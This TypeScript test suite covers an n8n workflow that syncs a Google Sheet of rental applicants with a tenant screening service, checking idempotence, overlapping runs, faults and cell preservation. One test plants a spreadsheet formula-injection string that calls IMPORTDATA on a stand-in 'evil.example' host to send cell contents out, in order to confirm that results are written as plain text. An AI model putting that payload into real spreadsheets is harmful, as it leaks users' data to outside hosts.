import type { IDataObject } from 'n8n-workflow';

import { refusal } from '../../support/network/google/google.mts';
import { testOnStandIn, useGoogle } from '../../support/network/google/host.mts';
import {
	isMark,
	isSave,
	livingSheet,
	redEnd,
	WRITTEN,
	type LivingSheet,
	type LivingSheetOptions,
} from '../../support/network/google/living-sheet.mts';

/** What people have in such a sheet, and what is changed where it is written back as if typed. */
const MESSY: LivingSheetOptions = {
	columns: [
		...['First Name', 'Last Name', 'Email', 'Phone', 'Unit', 'Zip', 'Viewing', 'Rent'],
		...['Share', 'Has pets', 'Remark'],
	],
	plainText: ['D'],
	rows: [
		[
			'Amara',
			'Okafor',
			'amara@example.com',
			'+14165550101',
			"'00123",
			"'02139",
			'1-Feb',
			'$2,100',
			'10%',
			'TRUE',
			"'=not a formula",
		],
		[
			'Leo',
			"'007",
			'leo@example.com',
			'+14165550102',
			"'3/4",
			"'00501",
			'2/1/2024',
			'$1,950.50',
			'12.5%',
			'FALSE',
			"'+1 for a garden",
		],
		[
			'Priya',
			'Nair',
			'priya@example.com',
			'+14165550103',
			"'1e5",
			"'10001",
			'Mar 1, 2025',
			'900',
			'5%',
			'TRUE',
			"''quoted'",
		],
		['', '', '', '', '', '', '', '', '', 'FALSE', ''],
		[
			'Wei',
			'Chen',
			'wei@example.com',
			'+14165550104',
			"'12",
			"'94103",
			'2025-03-01',
			'$3,000',
			'.5',
			'FALSE',
			'TRUE',
		],
	],
};

const SIMPLE = ['Name', 'Email', 'Phone', 'Remark'];
const applicant = (name: string, phone = '+14165550111') => [
	name,
	`${name.toLowerCase()}@example.com`,
	phone,
	'mine',
];
const simple = (...names: string[]): LivingSheetOptions => ({
	columns: SIMPLE,
	plainText: ['C'],
	rows: names.map((name) => applicant(name)),
	impatient: true,
});

describe('A living Google sheet, in n8n 2.41.1', () => {
	// Only the test completes screenings.
	const rig = useGoogle({ completeAfter: {} });

	const asked = () =>
		rig.host.sandbox
			.requestsOf('sendScreening')
			.map(({ body }) => (body as { email: string }).email);
	const idOf = (email: string) =>
		rig.host.sandbox.screenings.find((screening) => screening.email === email)!.userId;
	const make = async (options: LivingSheetOptions) => await livingSheet(rig, options);
	const statuses = async ({ rows }: LivingSheet) =>
		(await rows()).map((row) => row['screeningStatus']);

	/** Everyone once, every ID in its own row, and no formula among what was written. */
	async function expectInOrder(living: LivingSheet, emails: readonly string[]) {
		expect(asked().sort()).toEqual([...emails].sort());
		const rows = (await living.rows()).filter((row) => row['userId'] !== '');
		expect(rows.map((row) => row['userId'])).toEqual(rows.map((row) => idOf(String(row['Email']))));
		for (const { formula } of await living.writtenCells()) expect(formula).toBeUndefined();
		expect(rig.host.sandbox.requests.flatMap(({ violations }) => violations)).toEqual([]);
	}

	test('sends each row once and brings its results, and leaves every cell of a messy sheet as it is', async () => {
		const { sandbox } = rig.host;
		const living = await make(MESSY);
		await living.sheet.typeFormula('H4', '=900*1.1', 990);
		// Someone who is done, with a flag that is a formula.
		const hostile = sandbox.addApplicant({
			screening: {
				serviceScore: 700,
				redFlags: [{ title: '=IMPORTDATA("https://evil.example/?x="&A1)' }],
			},
			user: {
				email: 'zoe@example.com',
				checkComplete: true,
				phoneNumber: '+14165550105',
			},
		});
		await living.sheet.type('A7', [['Zoe', 'Lee', 'zoe@example.com', '+14165550105']]);
		await living.sheet.type('L7', [[hostile, 'sent']]);
		const before = await living.ownCells();
		expect(before.flat().filter(({ value }) => value !== '').length).toBeGreaterThan(36 + 11);
		const emails = ['amara', 'leo', 'priya', 'wei'].map((name) => `${name}@example.com`);

		expect(redEnd(await living.run())).toBeUndefined();
		expect(await living.ownCells()).toEqual(before);
		expect(await statuses(living)).toEqual(['sent', 'sent', 'sent', '', 'sent', 'sent']);
		expect((await living.rows())[5]).toMatchObject({
			resultStatus: 'complete',
			serviceScore: 700,
			redFlagCount: 1,
			redFlags: expect.stringContaining('IMPORTDATA') as unknown,
		});

		sandbox.complete(idOf('priya@example.com'));
		expect(redEnd(await living.run())).toBeUndefined();
		expect(await living.ownCells()).toEqual(before);
		const rows = await living.rows();
		expect(rows.map((row) => row['resultStatus'])).toEqual([
			...['not complete', 'not complete', 'complete', '', 'not complete', 'complete'],
		]);
		expect(rows[2]!['creditScore']).toEqual(expect.any(Number));

		// A third run changes nothing at all and does not ask again for what is complete.
		const cells = await living.sheet.cells();
		const fetched = sandbox.requestsOf('getScreeningData').length;
		expect(redEnd(await living.run())).toBeUndefined();
		expect(await living.sheet.cells()).toEqual(cells);
		expect(sandbox.requestsOf('getScreeningData').length - fetched).toBe(3);
		expect(asked().sort()).toEqual(emails);
		for (const { formula } of await living.writtenCells()) expect(formula).toBeUndefined();
	});

	test.each([
		[16, 4],
		[26, 14],
	])('fits a sheet of exactly %i columns', async (columnCount, own) => {
		const more = Array.from({ length: own - 4 }, (_, index) => `Own ${index + 1}`);
		const living = await make({
			...simple(),
			columns: [...SIMPLE, ...more],
			rows: ['Amara', 'Leo'].map((name) => [...applicant(name), ...more.map(() => "'007")]),
			columnCount,
		});
		const before = await living.ownCells();
		for (let round = 0; round < 2; round += 1) {
			expect(redEnd(await living.run())).toBeUndefined();
			expect(await living.ownCells()).toEqual(before);
		}
		await expectInOrder(living, ['amara@example.com', 'leo@example.com']);
	});

	test.each([
		['none of the columns', [], 4],
		['no screeningStatus', WRITTEN.filter((name) => name !== 'screeningStatus'), 16],
		['another spelling', WRITTEN.map((name) => (name === 'userId' ? 'User ID' : name)), 16],
	])(
		'sends nothing where the sheet has %s, and says what to add',
		async (_, added, columnCount) => {
			const living = await make({ ...simple('Amara', 'Leo'), added, columnCount });
			const cells = await living.sheet.cells();
			for (let round = 0; round < 2; round += 1) {
				expect(redEnd(await living.run())).toMatch(/column|row 1/);
				expect(await living.sheet.cells()).toEqual(cells);
			}
			expect(asked()).toEqual([]);
		},
	);

	test('takes phone numbers that were typed as numbers with the option Country Code', async () => {
		const options: LivingSheetOptions = { ...simple('Amara', 'Leo'), plainText: [] };
		const without = await make(options);
		expect(redEnd(await without.run())).toBe(
			'2 of 2 rows need attention, see screeningNote: row 2 not sent, row 3 not sent',
		);
		expect((await without.rows())[0]!['screeningNote']).toMatch(/^\p{L}.*[Pp]hone/u);
		expect(asked()).toEqual([]);

		const living = await make({
			...options,
			parameters: { 'Send screenings': { options: { countryCode: '1' } } },
		});
		const before = await living.ownCells();
		expect(before[1]![2]!.value).toBe(14165550111);
		expect(redEnd(await living.run())).toBeUndefined();
		expect(await living.ownCells()).toEqual(before);
		await expectInOrder(living, ['amara@example.com', 'leo@example.com']);
	});

	test('sends a row that was corrected, and ends red until then', async () => {
		const living = await make({
			...simple('Amara', 'Leo'),
			rows: [applicant('Amara', 'none'), applicant('Leo')],
		});
		for (let round = 0; round < 2; round += 1) {
			expect(redEnd(await living.run())).toBe(
				`1 of ${2 - round} rows need attention, see screeningNote: row 2 not sent`,
			);
		}
		expect(await statuses(living)).toEqual(['not sent', 'sent']);
		await living.sheet.type('C2', [['+14165550101']]);
		expect(redEnd(await living.run())).toBeUndefined();
		await expectInOrder(living, ['amara@example.com', 'leo@example.com']);
	});

	test.each(['the password is wrong', 'the service is down'])(
		'says so in each row if %s after the mark, and sends later',
		async (what) => {
			const { sandbox, client, createCredential } = rig.host;
			const { baseUrl, username, password } = sandbox;
			const isWrong = what === 'the password is wrong';
			const credential = await createCredential(isWrong ? { password: 'forgotten' } : {});
			const living = await livingSheet(rig, simple('Amara', 'Leo', 'Priya'), client, [
				credential,
				rig.account,
			]);
			const repair = isWrong
				? () => undefined
				: sandbox.addFault({ operation: ['login', 'sendScreening'], status: 503 });
			const before = await living.ownCells();
			expect(redEnd(await living.run())).toMatch(/^3 of 3 rows need attention/);
			expect(await statuses(living)).toEqual(['not sent', 'not sent', 'not sent']);
			for (const row of await living.rows()) expect(row['screeningNote']).toMatch(/^\p{L}/u);

			repair();
			await client.updateCredential(credential, { baseUrl, username, password });
			expect(redEnd(await living.run())).toBeUndefined();
			expect(await living.ownCells()).toEqual(before);
			expect(await statuses(living)).toEqual(['sent', 'sent', 'sent']);
			await expectInOrder(
				living,
				['amara', 'leo', 'priya'].map((name) => `${name}@example.com`),
			);
		},
	);

	testOnStandIn('sends nothing where the rows cannot be marked', async () => {
		const living = await make(simple('Amara'));
		rig.google.meanwhile = (request) =>
			isMark(request)
				? refusal(400, 'You are trying to edit a protected cell or object.')
				: undefined;
		const cells = await living.sheet.cells();
		expect(redEnd(await living.run())).toBeDefined();
		expect(await living.sheet.cells()).toEqual(cells);
		expect(asked()).toEqual([]);

		rig.google.meanwhile = undefined;
		expect(redEnd(await living.run())).toBeUndefined();
		await expectInOrder(living, ['amara@example.com']);
	});

	testOnStandIn(
		'sends nobody again where the outcomes cannot be written, and brings back the known IDs',
		async () => {
			const living = await make(simple('Amara', 'Leo'));
			rig.google.meanwhile = (request) =>
				isSave(request)
					? refusal(400, 'You are trying to edit a protected cell or object.')
					: undefined;
			expect(redEnd(await living.run())).toBeDefined();
			expect(await statuses(living)).toEqual(['sending', 'sending']);

			rig.google.meanwhile = undefined;
			for (let round = 0; round < 2; round += 1) {
				expect(redEnd(await living.run())).toBe(
					'2 of 2 rows need attention, see screeningNote: row 2 sending, row 3 sending',
				);
			}
			expect(asked().length).toBe(2);

			// The recipe: the person clears the status.
			await living.sheet.type('F2', [[''], ['']]);
			expect(redEnd(await living.run())).toBeUndefined();
			expect(await statuses(living)).toEqual(['sent', 'sent']);
			await expectInOrder(living, ['amara@example.com', 'leo@example.com']);
		},
	);

	testOnStandIn('sends each row once where two runs overlap', async () => {
		const { client, sandbox } = rig.host;
		const names = Array.from({ length: 8 }, (_, index) => `Twin${index}`);
		const living = await make(simple(...names));
		const before = await living.ownCells();
		sandbox.addFault({ operation: 'sendScreening', latencyMs: 300 });
		// Both have read the sheet before one of them marks a row.
		const reads = new Map<string, () => void>();
		rig.google.meanwhile = async (request) => {
			if (!isMark(request) || reads.size > 1) return undefined;
			await new Promise<void>((resolve) => {
				reads.set(String(reads.size), resolve);
				if (reads.size === 2) for (const go of reads.values()) go();
			});
			return undefined;
		};
		const started = await Promise.all([1, 2].map(() => client.startWorkflow(living.workflowId)));
		for (const id of started) expect(redEnd(await client.waitForExecution(id))).toBeUndefined();

		expect(await living.ownCells()).toEqual(before);
		await expectInOrder(
			living,
			names.map((name) => `${name.toLowerCase()}@example.com`),
		);
		expect(await statuses(living)).toEqual(names.map(() => 'sent'));
	});

	testOnStandIn(
		'keeps what a person changes meanwhile, and takes a row added at the end at the next run',
		async () => {
			const living = await make(simple('Amara', 'Leo'));
			rig.google.meanwhile = async (request) => {
				if (isMark(request)) {
					await living.sheet.type('D2', [['changed by me']]);
					await living.sheet.type('A4', [applicant('Priya')]);
				}
				return undefined;
			};
			expect(redEnd(await living.run())).toBeUndefined();
			rig.google.meanwhile = undefined;
			expect((await living.rows()).map((row) => [row['Remark'], row['screeningStatus']])).toEqual([
				['changed by me', 'sent'],
				['mine', 'sent'],
				['mine', ''],
			]);
			expect(redEnd(await living.run())).toBeUndefined();
			await expectInOrder(
				living,
				['amara', 'leo', 'priya'].map((name) => `${name}@example.com`),
			);
		},
	);

	test('does not send a row whose ID is filled without a status, or whose status is done or of its own', async () => {
		const living = await make(simple('Amara', 'Leo', 'Priya', 'Wei', 'Zoe', 'Hannah'));
		await living.sheet.type('E2', [
			['tenant-17'],
			['', 'Refused'],
			['', 'maybe sent'],
			['', 'sending'],
			['n/a', 'not sent'],
			['', 'hold'],
		]);
		expect(redEnd(await living.run())).toBe(
			'2 of 3 rows need attention, see screeningNote: row 2 userId without a status, row 5 sending',
		);
		expect(asked()).toEqual(['zoe@example.com']);
		expect((await living.rows()).map((row: IDataObject) => row['userId'])).toEqual([
			...['tenant-17', '', '', '', idOf('zoe@example.com'), ''],
		]);
		expect((await statuses(living)).at(-1)).toBe('hold');
	});
});
